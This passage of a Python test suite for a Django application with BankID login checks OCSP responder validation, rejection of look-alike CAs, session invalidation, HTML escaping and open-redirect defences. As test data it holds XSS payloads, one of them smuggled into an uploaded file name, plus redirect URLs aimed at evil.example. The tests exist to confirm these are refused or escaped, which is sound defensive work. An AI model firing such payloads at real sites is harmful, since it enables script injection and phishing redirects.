        .subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "OCSP responder")]))
        .issuer_name(ca.certificate.subject)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now + datetime.timedelta(days=valid_days[0]))
        .not_valid_after(now + datetime.timedelta(days=valid_days[1]))
    )
    if ocsp_signing:
        builder = builder.add_extension(
            x509.ExtendedKeyUsage([ExtendedKeyUsageOID.OCSP_SIGNING]), critical=False
        )
    return key, builder.sign(ca.key, hashes.SHA256())


def test_ocsp_signed_by_a_current_delegated_responder_passes_and_by_a_person_does_not(simulator):
    data = _completed(simulator)
    _key, certificate = simulator.ca.person(PNO, "Per Persson")
    key, responder = _responder_certificate(simulator.ca, valid_days=(-1, 30))
    data["ocspResponse"] = _ocsp(simulator.ca, certificate, responder=(key, responder))
    assert _verify(data, simulator.ca).personal_number == PNO
    # Another BankID holder's certificate is issued by the same CA, but may not sign OCSP.
    other_key, other = simulator.ca.person(OTHER_PNO, "Anna Angripare")
    data["ocspResponse"] = _ocsp(simulator.ca, certificate, responder=(other_key, other))
    with pytest.raises(SignatureInvalid, match="not signed by the CA or its responder"):
        _verify(data, simulator.ca)
    # Nor may a responder certificate without the OCSP-signing purpose.
    key, plain = _responder_certificate(simulator.ca, valid_days=(-1, 30), ocsp_signing=False)
    data["ocspResponse"] = _ocsp(simulator.ca, certificate, responder=(key, plain))
    with pytest.raises(SignatureInvalid, match="not signed by the CA or its responder"):
        _verify(data, simulator.ca)


def test_ocsp_signed_by_an_expired_delegated_responder_is_refused(simulator):
    data = _completed(simulator)
    _key, certificate = simulator.ca.person(PNO, "Per Persson")
    key, expired = _responder_certificate(simulator.ca, valid_days=(-400, -30))
    data["ocspResponse"] = _ocsp(simulator.ca, certificate, responder=(key, expired))
    with pytest.raises(SignatureInvalid):
        _verify(data, simulator.ca)


def test_a_ca_with_the_trusted_cas_very_name_is_not_trusted(simulator):
    """A look-alike CA (same subject DN as the trusted one) that the attacker controls."""
    look_alike = SimulatorCA.generate()
    assert look_alike.certificate.subject == simulator.ca.certificate.subject
    data = _completed(Simulator(clock=simulator.clock, ca=look_alike))
    with pytest.raises(SignatureInvalid, match="does not chain"):
        _verify(data, simulator.ca)


def test_markup_in_a_file_name_is_escaped_on_the_pages_and_in_the_staff_notice(
    client, applying, django_capture_on_commit_callbacks
):
    application, _admin, _member = applying
    staff = _reviewer_awaiting_a_reply(client, applying, "markup@attack.example.se")
    name = "<img src=x onerror=alert(1)>.pdf"
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            _reply_url(application),
            {"message": "<script>alert(2)</script>", "kind": "statutes", "file": _pdf(name)},
        )
    assert response.status_code == 302
    review = reverse("organisations:review_detail", args=[application.pk])
    for page in (client.get(_documents_url(application)), _staff_client(staff).get(review)):
        content = page.content.decode()
        assert "<img src=x" not in content and "<script>alert(2)" not in content
        assert "&lt;img src=x onerror=alert(1)&gt;.pdf" in content
    html = _staff_notice_html(staff)
    assert "<img src=x" not in html and "<script>alert(2)" not in html


def _staff_client(staff) -> Client:
    staff_client = Client()
    staff_client.force_login(staff)
    return staff_client


def test_an_ended_session_cannot_be_saved_back_by_a_request_in_flight(cached_sessions):
    from django.contrib.sessions.backends.base import UpdateError

    user = verified(UserFactory(email="i-farten@attack.example.se"))
    here, elsewhere = _device(user), _device(user)
    key = _session_key(elsewhere)
    store = import_module(settings.SESSION_ENGINE).SessionStore
    in_flight = store(session_key=key)
    assert in_flight.get("_auth_user_id") == str(user.pk)  # read at the start of the request
    assert here.post(reverse("usersessions_list")).status_code == 302
    in_flight["lov_renewed_at"] = 1  # what the idle-timeout middleware writes
    with pytest.raises(UpdateError):
        in_flight.save()
    assert not _session_exists(key)
    assert not _logged_in(elsewhere)


@pytest.mark.parametrize(
    "next_url",
    ["https://evil.example/", "//evil.example/", "/\\evil.example/", "/\t/evil.example/"],
)
def test_the_step_up_does_not_send_anyone_off_site(client, simulator, next_url):
    user = _linked_user("vidare@attack.example.se", "Vera Vidare")
    client.force_login(user)
    page = client.get(_url("bankid_step_up"), {"next": next_url}).content.decode()
    assert not re.search(r'name="next" value="[^"]*evil', page)
    assert not re.search(r'href="[^"]*reauthenticate[^"]*evil', page)
    client.post(_url("bankid_step_up_start"), {"next": next_url})
    order = client.session[bankid.SESSION_KEY]
    assert order["next_url"] == ""
    simulator.approve(order["order_ref"], personal_number=PNO, name="Vera Vidare")
    done = client.post(_url("bankid_collect"), **HX)
    assert done["HX-Redirect"] == _url("bankid")
    cancel = client.post(_url("bankid_cancel"))
    assert "evil.example" not in cancel["Location"]
